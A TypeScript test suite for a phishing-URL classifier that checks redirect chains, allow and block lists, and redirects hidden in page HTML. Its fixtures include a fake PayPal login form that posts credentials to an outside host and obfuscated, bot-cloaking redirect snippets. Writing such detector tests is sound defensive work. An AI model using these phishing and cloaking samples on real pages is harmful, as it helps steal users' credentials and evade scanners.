import { describe, expect, test } from 'bun:test';
import { assess } from '#src/engine/assess/assess.ts';
import type { Assessment } from '#src/engine/fusion/fuse.ts';
import { readPage } from '#src/network/html/read-page.ts';
import { indexList } from '#src/network/lists/named-list.ts';
import { parseList } from '#src/network/lists/parse.ts';
import { hopUrls, observeLists, withHopLists } from '#src/network/probes/lists.ts';
import type { HostObservations, Observations } from '#src/network/probes/observations.ts';
import { type PageVisit, type RedirectHop, visitOf } from '#src/network/probes/page-visit.ts';
import { certificate, dnsRecords, NOTHING, observed, registration } from '#test/engine/analyzers/evidence-samples.ts';
import { MODELS, SETTINGS } from '#test/support/models.ts';
import { said } from '#test/support/said.ts';
import { targetOf } from '#test/support/target.ts';

const EVIL = 'http://paypal-login.verify-account.cyou/signin';
const HARMLESS = 'http://news.harbour-town.org/r302';
const PLAIN_PAGE = '<title>Welcome</title><p>Please wait.</p>';
const LOGIN = `<title>Log in to your PayPal account</title><h1>PayPal</h1><p>Log in to PayPal to confirm your account.</p>
  <form action="https://collect.example.net/a.php" method=post><input type=email name=login_email placeholder="Email">
  <input type=password name=login_password placeholder=Password><button>Log In</button></form>`;

const classify = (url: string, observations: Observations = NOTHING): Assessment =>
  assess(targetOf(url), observations, MODELS, SETTINGS);

function pageAt(url: string, html: string): PageVisit {
  const document = readPage(new TextEncoder().encode(html), { contentType: 'text/html; charset=utf-8', url });
  return visitOf(targetOf(url), { contentLength: html.length, document });
}

const hop = (url: string, location: string, how: RedirectHop['how'] = 'http'): RedirectHop => ({
  ...{ url, location, how, status: how === 'http' ? 302 : 200, address: '203.0.113.1' },
});

/** Returns a visit with redirects through `urls` that ended on a page. */
function wayTo(html: string, ...urls: readonly string[]): Observations {
  const redirects = urls.slice(0, -1).map((url, i) => hop(url, urls[i + 1] ?? ''));
  return { ...NOTHING, page: observed({ ...pageAt(urls.at(-1) ?? '', html), redirects }) };
}

/** Returns a page that forwards visitors by a refresh, with the page that they reach. */
function refreshed(from: string, html: string, to: string, landing = PLAIN_PAGE): Observations {
  const visit = { ...pageAt(to, landing), redirects: [hop(from, to, 'refresh')], passed: [pageAt(from, html)] };
  return { ...NOTHING, page: observed(visit) };
}

const first = ({ verdict }: Assessment) => said(verdict.contributions[0]);

describe('a link that redirects', () => {
  test('to a blocked URL is blocked, and its reason names the hop', () => {
    const alone = classify(EVIL);
    expect([alone.decision, alone.decidingHost]).toEqual(['block', 'paypal-login.verify-account.cyou']);
    for (const observations of [wayTo(PLAIN_PAGE, HARMLESS, EVIL), refreshed(HARMLESS, PLAIN_PAGE, EVIL)]) {
      const { decision, decidingHost, verdict, hops, brand } = classify(HARMLESS, observations);
      expect([decision, decidingHost]).toEqual(['block', 'paypal-login.verify-account.cyou']);
      expect(brand?.name).toBe('PayPal');
      expect(verdict.contributions.map(said).join(' ')).toContain('paypal-login.verify-account.cyou. ');
      expect(hops).toMatchObject([{ url: HARMLESS, location: EVIL, followed: true, decision: 'block' }]);
      expect(hops[0]?.probability).toBeCloseTo(alone.verdict.probability, 9);
    }
  });

  test.each(['https://www.google.com/url?q=x', 'https://bit.ly/3xYz', 'https://www.wikipedia.org/wiki/Special:Go'])(
    'from the trusted host of %s to a blocked URL is blocked as well',
    (trusted) => {
      expect(classify(trusted).decision).toBe('allow');
      expect(classify(trusted, wayTo(PLAIN_PAGE, trusted, EVIL)).decision).toBe('block');
    },
  );

  test('is scored by each URL on the way, and by URLs wrapped inside them', () => {
    const wrapped = `https://tracker.example.org/c?url=${encodeURIComponent(EVIL)}`;
    for (const middle of [EVIL, wrapped]) {
      const result = classify(HARMLESS, wayTo(PLAIN_PAGE, HARMLESS, middle, 'https://www.wikipedia.org/'));
      expect([middle, result.decision]).toEqual([middle, 'block']);
      expect(result.hops.map(({ decision }) => decision)).toEqual(['block', 'allow']);
    }
  });

  test('keeps its own verdict if it ends on a harmless page', () => {
    const result = classify(EVIL, wayTo(PLAIN_PAGE, EVIL, 'https://www.wikipedia.org/'));
    expect(result.decision).toBe('block');
    const harmless = classify(HARMLESS, wayTo(PLAIN_PAGE, HARMLESS, 'https://www.wikipedia.org/'));
    expect([harmless.decision, harmless.hops.map(({ decision }) => decision)]).toEqual(['allow', ['allow']]);
  });

  test('to an unreachable URL scores that URL, and does not report it as followed', () => {
    const stopped = { code: 'connection_refused', detail: '' } as const;
    const visit = { ...visitOf(targetOf(HARMLESS), { contentLength: 0, document: null }), stopped };
    const page = observed({ ...visit, statusCode: 302, redirects: [hop(HARMLESS, EVIL)] });
    const result = classify(HARMLESS, { ...NOTHING, page });
    expect(result.hops).toMatchObject([{ location: EVIL, followed: false, decision: 'block' }]);
    expect([result.decision, result.coverage]).toEqual(['block', 'url_only']);
  });

  test('has reasons that add up, and is deterministic', () => {
    const observations = wayTo(LOGIN, HARMLESS, 'https://bit.ly/3xYz', EVIL);
    const { verdict } = classify(HARMLESS, observations);
    const sum = verdict.contributions.reduce((total, { weight }) => total + weight, verdict.baseLogOdds);
    expect(Math.abs(sum - Math.log(verdict.probability / (1 - verdict.probability)))).toBeLessThan(1e-6);
    expect(classify(HARMLESS, observations)).toEqual(classify(HARMLESS, observations));
  });
});

describe('the registration of a site', () => {
  const trusted: HostObservations = {
    dns: observed(dnsRecords({})),
    registration: observed(registration({ ageDays: 6000, createdAt: '2010-01-01T00:00:00.000Z' })),
    certificate: observed(certificate({})),
  };
  const [start, end] = ['https://old.example.org/go', 'https://young.example.net/login'];

  test('at the start of the chain does not count for its end', () => {
    const way = wayTo(PLAIN_PAGE, start, end);
    const withTrust = classify(start, { ...way, ...trusted });
    const without = classify(start, way);
    expect(withTrust.hops).toEqual(without.hops);
    expect(withTrust.verdict.probability).toBeGreaterThanOrEqual(
      Math.min(
        without.verdict.probability,
        classify(end, { ...way, page: observed(pageAt(end, PLAIN_PAGE)) }).verdict.probability,
      ),
    );
  });

  test('at the end of the chain counts for its end', () => {
    const young = registration({ ageDays: 2, createdAt: '2026-11-20T00:00:00.000Z' });
    const landing = { ...NOTHING, registration: observed(young), host: 'young.example.net' };
    const codes = classify(start, { ...wayTo(PLAIN_PAGE, start, end), landing }).verdict.contributions.map(
      ({ code }) => code,
    );
    expect(codes).toContain('registration.created_under_7_days_ago');
  });
});

describe('lists', () => {
  const listOf = (name: string, text: string) => ({ name, index: indexList(parseList(text)), changedAtMs: null });
  const decide = (allow: string, block: string, ...urls: readonly [string, ...string[]]) => {
    const lists = { allow: [listOf('fine.txt', allow)], block: [listOf('ours.txt', block)], stored: [] };
    const asked = targetOf(urls[0]);
    const seen = { ...wayTo(PLAIN_PAGE, ...urls), lists: observeLists(lists, asked, 0) };
    return classify(asked.url, withHopLists(seen, lists, 0));
  };

  test('that block a URL in the chain block the link, even if its first URL is allowed', () => {
    const result = decide('news.harbour-town.org', 'shop.example.com', HARMLESS, 'https://shop.example.com/');
    expect(result.decision).toBe('block');
    expect(first(result)).toStartWith('The link redirects to shop.example.com. ');
    expect(result.hops).toMatchObject([{ decision: 'block' }]);
  });

  test('that allow the end of the chain do not clear its start', () => {
    expect(decide('shop.example.com', '', EVIL, 'https://shop.example.com/').decision).toBe('block');
  });

  test('that allow the end of the chain clear the end', () => {
    const result = decide('paypal-login.verify-account.cyou', '', HARMLESS, EVIL);
    expect([result.decision, result.hops[0]?.decision]).toEqual(['allow', 'allow']);
  });
});

describe('a page that forwards its visitors', () => {
  const start = 'https://quarry-lodge.info/x';

  test('is scored like the same page without the redirect', () => {
    const alone = classify(start, { ...NOTHING, page: observed(pageAt(start, LOGIN)) });
    expect(alone.decision).toBe('block');
    const { verdict, decision, brand } = classify(start, refreshed(start, LOGIN, 'https://www.wikipedia.org/'));
    expect([decision, brand?.name]).toEqual(['block', 'PayPal']);
    expect(verdict.probability).toBeGreaterThanOrEqual(alone.verdict.probability - 1e-9);
  });

  test('is also scored in the middle of the chain', () => {
    const end = 'https://www.wikipedia.org/';
    const redirects = [hop(HARMLESS, start), hop(start, end, 'refresh')];
    const page = observed({ ...pageAt(end, PLAIN_PAGE), redirects, passed: [pageAt(start, LOGIN)] });
    expect(classify(HARMLESS, { ...NOTHING, page }).decision).toBe('block');
  });
});

describe('a hop that was found in the page', () => {
  const page = (html: string): Observations => ({ ...NOTHING, page: observed(pageAt(HARMLESS, html)) });

  test.each([
    ['script', `<p>One moment.</p><script>setTimeout(() => { location.replace("${EVIL}") }, 900)</script>`],
    ['script', `<script>window.location = atob("${btoa(EVIL)}")</script>`],
    ['script', `<body onload="window.open('${EVIL}', '_self')">`],
    ['script', `<img src=x onerror="location='${EVIL}'">`],
    ['script', `<script>navigation.navigate("${EVIL}")</script>`],
    [
      'script',
      `<script>const host = "http://paypal-login."; location.href = host + 'verify-account.cyou/signin'</script>`,
    ],
    ['script', `<script>const b = "//paypal-login.verify-account.cyou/"; location = 'http:' + b + 'signin'</script>`],
    ['script', `<script>const cfg = { next: "${EVIL}" }; location.replace(cfg.next)</script>`],
    ['script', `<script>const cfg = { "next": atob("${btoa(EVIL)}") }; location = cfg.next;</script>`],
    ['script', `<script>location = navigator.webdriver ? 'http://news.harbour-town.org/' : '${EVIL}'</script>`],
    ['form', `<form name=f action="${EVIL}" method=post><input type=hidden name=t></form><script>f.submit()</script>`],
    ['frame', `<iframe src="${EVIL}" style="border:0;position:fixed;inset:0;width:100%;height:100%"></iframe>`],
    ['frame', `<frameset rows="100%"><frame src="${EVIL}"></frameset>`],
    ['link', `<h1>You have received a document</h1><a class=button href="${EVIL}">View document</a>`],
    ['link', `<h1>You have received a document</h1><button onclick="location.href='${EVIL}'">View document</button>`],
    ['link', `<p>Invoice 17</p><form action="${EVIL}"><button>Open</button></form>`],
    ['link', `<p>Invoice 17</p><form><button formaction="${EVIL}">Open</button></form>`],
    ['link', `<p>Invoice 17</p><a href="javascript:location='${EVIL}'">Open</a>`],
  ] as const)('by a %s is scored and never followed: %s', (how, html) => {
    const { decision, hops, coverage, verdict } = classify(HARMLESS, page(html));
    const hopOf = { url: HARMLESS, status: null, location: EVIL, address: null, how, followed: false };
    expect(hops.filter(({ location }) => location === EVIL)).toMatchObject([{ ...hopOf, decision: 'block' }]);
    expect([decision, coverage]).toEqual(['block', how === 'link' ? 'full' : 'partial']);
    const ways = {
      script: 'A script of the page leads to',
      form: 'The page sends a form by itself to',
      frame: 'A frame fills the page with',
      link: 'The only link of the page leads to',
    };
    expect(verdict.contributions.map(said).join(' ')).toContain(`${ways[how]} paypal-login`);
  });

  test.each([
    [
      'a link among others',
      `<a href="https://www.wikipedia.org/">a</a> <a href="https://example.com/">b</a> <a href="${EVIL}">c</a>`,
    ],
    ['a link in an article', `<p>${'Harbour news and tide tables. '.repeat(30)}</p><a href="${EVIL}">more</a>`],
    ['a hidden frame', `<iframe src="${EVIL}" style="display:none" width=100% height=100%></iframe>`],
    ['a small frame', `<p>${'Harbour news. '.repeat(20)}</p><iframe src="${EVIL}" width=300 height=200></iframe>`],
    ['a window that a click opens', `<script>function share() { window.open("${EVIL}") }</script><p>Harbour</p>`],
    ['a comparison', `<script>if (location == "${EVIL}") warn()</script>`],
    ['another member', `<script>const cfg = { other: "${EVIL}" }; location.replace(cfg.next)</script>`],
    ['a form that a click sends', `<form action="${EVIL}"></form><script>function go() { f.submit() }</script>`],
    [
      'a form that asks something beside one that is sent',
      `<form id=f></form><form action="${EVIL}"><input name=q></form><script>f.submit()</script>`,
    ],
  ])('does not include %s', (_, html) => {
    const { hops, decision } = classify(HARMLESS, page(html));
    expect([hops, decision]).toEqual([[], 'allow']);
  });

  test('is one of at most 8 URLs', () => {
    const many = Array.from({ length: 300 }, (_, i) => `location.href = "https://h${i}.example.net/";`).join('\n');
    const seen = page(`<script>${many}</script>`);
    expect(seen.page.state === 'observed' ? hopUrls(seen.page.value).length : 0).toBe(8);
  });
});
